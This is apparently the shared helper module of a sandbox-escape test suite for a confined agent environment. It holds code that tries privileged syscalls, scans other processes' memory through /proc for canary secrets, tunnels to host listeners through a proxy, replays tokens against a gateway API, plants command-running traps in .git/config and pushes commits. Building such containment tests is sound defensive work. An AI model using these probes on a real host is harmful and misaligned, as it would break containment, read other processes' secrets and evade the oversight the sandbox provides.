"""What the attempts share. An attempt ends with one line of these:

    ESCAPED: evidence      it got what it must not get
    stopped: ERRNO: words  something stopped it, and this is what it saw
    planted: words         it laid a trap; whether that sprang is looked at from outside, afterwards

Anything else is a broken attempt and fails its test. Secrets are never printed but for the planted ones.
"""

import ctypes, errno, glob, json, os, platform, re, signal, socket, stat, struct, subprocess, sys, time
from types import SimpleNamespace

HERE = os.path.dirname(os.path.abspath(__file__))
NAME = os.path.basename(sys.argv[0])[:-3]
F = SimpleNamespace(**json.load(open(os.path.join(HERE, "facts.json"))))
FILE = F.files.get(NAME)  # a file of the host that is this attempt's own to spoil
PID = F.pids.get(NAME)  # a process of the host, likewise
MARK = f"~{NAME}~"  # what a listener of the host knows this attempt by
CANARY = re.compile(rb"canary-[0-9a-z]{20}")
TOKEN = re.compile(rb"bg[bs]_[0-9A-HJKMNP-TV-Z]{26}_\d+_[0-9a-z_]{20,}")


def ends(word, text):
    line = " ".join(str(text).split())[:400]
    sys.stdout.write(f"{word}: {line}\n")
    sys.stdout.flush()
    os._exit(0)


def escaped(evidence):
    ends("ESCAPED", evidence)


def stopped(why):
    ends("stopped", why)


def planted(what):
    ends("planted", what)


def reason(error):
    if isinstance(error, socket.gaierror):
        return f"NONAME: {error}"
    if isinstance(error, (TimeoutError, socket.timeout)):
        return f"ETIMEDOUT: {error}"
    return f"{errno.errorcode.get(error.errno, '?')}: {error}"


def hook(kind, error, trace):
    if isinstance(error, OSError):
        stopped(reason(error))
    sys.__excepthook__(kind, error, trace)
    ends("broken", f"{kind.__name__}: {error}")


sys.excepthook = hook


def found(data):
    """Whether what was read holds the planted secret."""
    data = data if isinstance(data, bytes) else str(data).encode()
    match = CANARY.search(data)
    escaped(match.group().decode()) if match else stopped(f"EMPTY: {len(data)} bytes without the secret")


def read(path, most=1 << 20):
    with open(path, "rb") as file:
        return file.read(most)


def any_of(what, attempts):
    """Tries each; `attempts` are functions that return evidence or None, or raise OSError."""
    why = []
    for attempt in attempts:
        try:
            evidence = attempt()
            if evidence:
                escaped(evidence)
            why.append("nothing")
        except OSError as error:
            why.append(reason(error))
    stopped(f"{' '.join(sorted({w.split(':')[0] for w in why}))}: {what}: {'; '.join(why[:3])}")


def opens(paths, mode="rb", look=None):
    """Opens the first of the paths that can be."""

    def one(path):
        def attempt():
            with open(path, mode, buffering=0) as file:
                return f"{path} {mode} {look(file) if look else 'opened'}"

        return attempt

    any_of("opening", [one(path) for path in paths])


# ---- the kernel ----
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = dict(
    ptrace=101, process_vm_readv=310, process_vm_writev=311, mount=165, umount2=166, pivot_root=155, chroot=161,
    unshare=272, setns=308, clone=56, add_key=248, request_key=249, keyctl=250, bpf=321, userfaultfd=323,
    perf_event_open=298, kexec_load=246, init_module=175, finit_module=313, delete_module=176, reboot=169,
    syslog=103, name_to_handle_at=303, open_by_handle_at=304, iopl=172, ioperm=173, swapon=167, acct=163,
    quotactl=179, capset=126, clock_settime=227, sched_setscheduler=144, mknodat=259, msgget=68, shmat=30,
    personality=135, kcmp=312, settimeofday=164, fanotify_init=300, lookup_dcookie=212, move_pages=279,
)
ARM = dict(
    ptrace=117, process_vm_readv=270, process_vm_writev=271, mount=40, umount2=39, pivot_root=41, chroot=51,
    unshare=97, setns=268, clone=220, add_key=217, request_key=218, keyctl=219, bpf=280, userfaultfd=282,
    perf_event_open=241, kexec_load=104, init_module=105, finit_module=273, delete_module=106, reboot=142,
    syslog=116, name_to_handle_at=264, open_by_handle_at=265, swapon=224, acct=89, quotactl=60, capset=91,
    clock_settime=112, sched_setscheduler=119, mknodat=33, msgget=186, shmat=196, personality=92, kcmp=272,
    settimeofday=170, fanotify_init=262, lookup_dcookie=18, move_pages=239,
)
NEW = dict(
    io_uring_setup=425, open_tree=428, move_mount=429, fsopen=430, fsconfig=431, fsmount=432, pidfd_open=434,
    clone3=435, pidfd_getfd=438, mount_setattr=442, memfd_secret=447,
)
NUMBERS = {**(ARM if platform.machine() == "aarch64" else X86), **NEW}


def call(name, *args):
    """A system call by name; raises OSError."""
    number = name if isinstance(name, int) else NUMBERS[name]
    ctypes.set_errno(0)
    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    value = libc.syscall(ctypes.c_long(number), *plain)
    if value < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), str(name))
    return value


def passes(*calls):
    """Calls with arguments that do nothing. Past the permission check counts as an escape."""
    why = []
    for name, *args in calls:
        try:
            escaped(f"{name} was allowed: {call(name, *args)}")
        except OSError as error:
            if error.errno not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
                escaped(f"{name} went past the permission check: {reason(error)}")
            why.append(f"{name} {reason(error)}")
    stopped(f"{why[-1].split()[1].rstrip(':')}: {'; '.join(why)}")


def in_child(body):
    """Runs `body` in a forked process; returns its exit status."""
    pid = os.fork()
    if pid == 0:
        try:
            body()
            os._exit(0)
        except OSError as error:
            os._exit(min(error.errno or 255, 255))
        except BaseException:
            os._exit(254)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def parents():
    """The processes above this one, as far as they can be seen."""
    pid, seen = os.getppid(), []
    while pid > 0:
        seen.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return seen


def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]


def regions(pid, most=64 << 20):
    """Readable private memory of a process."""
    total = 0
    for line in open(f"/proc/{pid}/maps"):
        span, mode, *_ = line.split()
        path = line.split()[5] if len(line.split()) > 5 else ""
        if not mode.startswith("rw") or path.startswith("[v"):
            continue
        start, end = (int(x, 16) for x in span.split("-"))
        if total + end - start > most:
            continue
        total += end - start
        yield start, end - start


def memory(pid):
    """Yields pieces of a process's memory through /proc."""
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    for start, size in regions(pid):
        try:
            yield os.pread(fd, size, start)
        except OSError:
            continue


# ---- the network ----
PROXY = None
for name in ("http_proxy", "HTTP_PROXY", "https_proxy"):
    match = re.match(r"(?:http://)?([^:/]+):(\d+)", os.environ.get(name, ""))
    if match:
        PROXY = (match.group(1), int(match.group(2)))


def talk(sock, data=None, most=4096):
    """Says something and hears the answer, as much as comes soon."""
    sock.settimeout(5)
    sock.sendall(data if data is not None else MARK.encode() + b"\n")
    heard = b""
    try:
        while len(heard) < most:
            piece = sock.recv(most)
            if not piece:
                break
            heard += piece
            sock.settimeout(0.5)
    except (TimeoutError, socket.timeout):
        pass
    return heard


def contact(family, address, kind=socket.SOCK_STREAM):
    sock = socket.socket(family, kind)
    sock.settimeout(3)
    sock.connect(address)
    found(talk(sock))


def status(answer):
    """The first line of an HTTP answer, and what explains it."""
    head, _, body = answer.partition(b"\r\n\r\n")
    line = head.split(b"\r\n")[0].decode(errors="replace")
    return f"{line} {body[:250].decode(errors='replace')}".strip()


def connect_through(host, port):
    """A stream to host:port: through the proxy where there is one, straight where there is none.
    Returns the socket, or the proxy's refusal."""
    if PROXY is None:
        bare = host.strip("[]")
        return socket.create_connection((bare, port), 3)
    sock = socket.create_connection(PROXY, 5)
    sock.settimeout(15)
    target = f"{host}:{port}"
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = sock.recv(4096)
        if not piece:
            return f"CLOSED {answer!r}"
        answer += piece
    if re.match(rb"HTTP/1\.[01] 2\d\d", answer):
        return sock
    sock.settimeout(0.3)
    try:
        answer += sock.recv(4096)
    except OSError:
        pass
    return status(answer)


def reach(targets):
    """Tries to reach a listener of the host behind each (host, port)."""

    def one(host, port):
        def attempt():
            got = connect_through(host, port)
            if isinstance(got, str):
                raise OSError(errno.EACCES, f"{host}:{port} {got}")
            match = CANARY.search(talk(got))
            return match and f"{host}:{port} {match.group().decode()}"

        return attempt

    any_of("reaching", [one(*target) for target in targets])


def ask(request, to=None):
    """Sends a raw HTTP request to the proxy, or where there is none straight to `to`."""
    sock = socket.create_connection(PROXY or to, 5)
    return talk(sock, request if isinstance(request, bytes) else request.encode(), 65536)


def gateway(request):
    """Sends a raw HTTP request to the gateway's socket."""
    last = None
    for path in F.gateway:
        try:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(3)
            sock.connect(path)
            return talk(sock, request.encode(), 65536)
        except OSError as error:
            last = error
    raise last


def box_api(method, path, token, body="{}", more=""):
    """A call of the gateway as a worker makes it: over its socket, or through the tunnel, whichever is there."""
    request = (
        f"{method} {path} HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n"
        f"{more}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    )
    return ask(request) if PROXY else gateway(request)


def refused(answer):
    """An answer of the gateway: only 2xx is an escape."""
    line = status(answer)
    escaped(line) if re.match(r"HTTP/1\.[01] 2", line) else stopped(line or "CLOSED: without an answer")


def take(token):
    """Whether a token opens the gateway."""
    answer = box_api("POST", "/box/v1/heartbeat", token, '{"stage":"agent"}')
    escaped("a token that the gateway takes") if b" 200 " in answer[:20] or b" 204 " in answer[:20] else stopped(status(answer))


# ---- git and shells ----
def sh(command, **more):
    return subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, timeout=60, **more)


def git(*args, **more):
    return subprocess.run(["git", *args], capture_output=True, text=True, timeout=60, **more)


def commit(files, base=None):
    """A commit on top of what the gateway has of the branch, or of HEAD; the work tree stays as it is."""
    there = git("ls-remote", "origin", "refs/heads/" + branch()).stdout.split()
    base = base or (there[0] if there else "HEAD")
    index = f"/tmp/index-{NAME}-{os.getpid()}"
    env = {**os.environ, "GIT_INDEX_FILE": index, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b.example",
           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b.example"}
    git("read-tree", base, env=env)
    for path, (mode, content) in files.items():
        if mode == "160000":
            blob = content
        else:
            data = content if isinstance(content, bytes) else content.encode()
            made = subprocess.run(["git", "hash-object", "-w", "--stdin"], input=data, capture_output=True)
            blob = made.stdout.decode().strip()
        done = git("update-index", "--add", "--cacheinfo", f"{mode},{blob},{path}", env=env)
        if done.returncode:
            stopped(f"GIT: {done.stderr}")
    tree = git("write-tree", env=env).stdout.strip()
    made = git("commit-tree", tree, "-p", base, "-m", "work", env=env)
    return made.stdout.strip() or stopped(f"GIT: {made.stderr}")


def trap(config):
    """Lays a trap in git's configuration, without running git: only others may spring it.
    `{trap}` stands for a program that changes this attempt's file of the host."""
    program = f"/tmp/trap-{NAME}"
    with open(program, "w") as file:
        file.write(f"#!/bin/sh\necho trap > '{FILE}'\ncat 2>/dev/null\nexit 0\n")
    os.chmod(program, 0o755)
    with open(".git/config", "a") as file:
        file.write(config.replace("{trap}", program))
    return program


def branch():
    """The task's branch on the gateway."""
    return git("symbolic-ref", "--short", "HEAD").stdout.strip()


def push(*specs, to=("origin",)):
    """Pushes; the first place that takes it is an escape."""
    why = []
    for place in to:
        done = git("push", place, *specs)
        if done.returncode == 0:
            escaped(f"{place} took {specs}")
        why.append(answer(done))
    stopped("PUSH: " + " | ".join(why))


def answer(done):
    """What the other side said of a push."""
    lines = [l for l in done.stderr.splitlines() if "remote:" in l or "rejected" in l or "fatal" in l or "error:" in l]
    return " ".join(lines).replace("remote: this push is refused, nothing of it was taken:", "") or done.stderr
